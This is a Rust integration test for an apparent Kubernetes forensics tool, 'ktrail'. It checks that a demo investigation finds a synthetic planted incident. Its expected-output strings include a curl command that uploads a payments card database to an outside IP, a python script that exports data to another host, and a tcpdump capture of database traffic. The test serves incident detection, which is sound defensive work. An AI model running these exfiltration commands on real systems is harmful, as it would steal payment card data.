//! `ktrail demo` end to end: the generated history ingests cleanly and the guided
//! investigation finds the embedded incident's known answers; running it again adds nothing.

mod common;

use common::{ktrail, stderr, stdout};

#[test]
fn demo_finds_the_incident() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("store");
    let o = ktrail(&data, &["demo", "--events", "20000"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    for answer in [
        // The exec session: who, where, what it ran and where it connected.
        "mallory@example.com | payments-api-",
        "/usr/bin/curl -s -X POST --data-binary @/var/lib/payments/cards.db https://203.0.113.50/upload",
        "[203.0.113.50:443]",
        "connect TCP 203.0.113.50:443",
        // The tcpdump run, with its workload.
        "| billing   | payments-api-",
        "| Deployment    | payments-api  | -i any -w /tmp/cap.pcap port 5432",
        // The pod deleted right after sending data out, and its timeline.
        "| 198.51.100.77 |",
        "exec /usr/local/bin/python3 /app/export.py --full --to https://198.51.100.77/drop",
        "| deleted  | pod deleted",
        // The privileged pod and who made it.
        "kube-system | node-shell-",
        "Explore it yourself:",
    ] {
        assert!(out.contains(answer), "missing {answer:?} in:\n{out}");
    }
    // Only the session's curl is unknown egress from billing (the gateway is allow-listed).
    let unknown = out
        .split("3. Which billing pods")
        .nth(1)
        .and_then(|s| s.split("\n4. ").next())
        .unwrap();
    assert!(unknown.contains("(1 row)"), "{unknown}");

    // Again: the same seed writes the same files, which are recognised and skipped.
    let o = ktrail(&data, &["demo", "--events", "20000"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let again = stdout(&o);
    assert!(
        again.contains("Ingested 0 new events (0 rejected, 5 inputs already there)"),
        "{again}"
    );
    assert!(again.contains("connect TCP 203.0.113.50:443"));
}
